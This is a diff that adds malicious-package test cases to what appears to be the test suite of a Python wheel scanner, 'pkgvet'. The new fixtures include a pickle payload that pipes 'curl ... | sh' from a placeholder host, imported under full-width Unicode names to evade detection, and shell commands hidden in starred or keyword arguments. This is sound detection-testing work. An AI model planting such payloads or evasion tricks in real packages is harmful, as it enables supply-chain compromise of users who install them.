@@ -84,6 +84,13 @@ CASES = [
     _wheel("exec continued on the next line before its parenthesis", "execcont", _init(
         "execcont", f"import base64\nexec \\\n    (base64.b64decode({B64!r}))\n"),
         "malicious", ("PV201",)),
+    _wheel("a bundled pickle loaded at import by full-width names", "fwpickle", {
+        "fwpickle/__init__.py": (
+            f"import os, {fullwidth('pickle')}\nwith open(os.path.join(os.path.dirname("
+            f"__file__), 'model.pkl'), 'rb') as f:\n"
+            f"    MODEL = {fullwidth('pickle')}.{fullwidth('load')}(f)\n"),
+        "fwpickle/model.pkl": b"cos\nsystem\n(S'curl -s https://r.x.invalid/i.sh | sh'\ntR."},
+        "malicious", ("PV360", "PV230")),
     # source codecs Python ships: the text pkgvet reads is the decoded text
     _wheel("utf-7 coding cookie spells exec as +AGUAeABlAGM-", "utf7src", {
         "utf7src/__init__.py": (f"# coding: utf-7\nimport base64\n+AGUAeABlAGM-(base64."
@@ -132,6 +139,13 @@ CASES = [
     _wheel("map(os.system, [cmd]) and atexit.register(os.system, cmd)", "mapsys", _init(
         "mapsys", f"import atexit, os\nlist(map(os.system, [{SPLIT_RUN}]))\n"
                   f"atexit.register(os.system, {SPLIT_RUN})\n"), "malicious", ("PV302",)),
+    _wheel("os.system(*[cmd]): the command in a starred list", "starsys", _init(
+        "starsys", f"import os\nos.system(*[{SPLIT_RUN}])\n"), "malicious", ("PV302",)),
+    _wheel("subprocess.run(args=cmd) and run(**{'args': cmd}): the command as a keyword",
+           "kwargsrun", _init("kwargsrun", (
+               f"import subprocess\nsubprocess.run(args={SPLIT_RUN}, shell=True)\n"
+               f"subprocess.run(**{{'args': {SPLIT_RUN}, 'shell': True}})\n")),
+           "malicious", ("PV302",)),
     _wheel("os.spawnlp with the command after the program", "spawnlp", _init(
         "spawnlp", f"import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c', {SPLIT_RUN})\n"),
         "malicious", ("PV302",)),
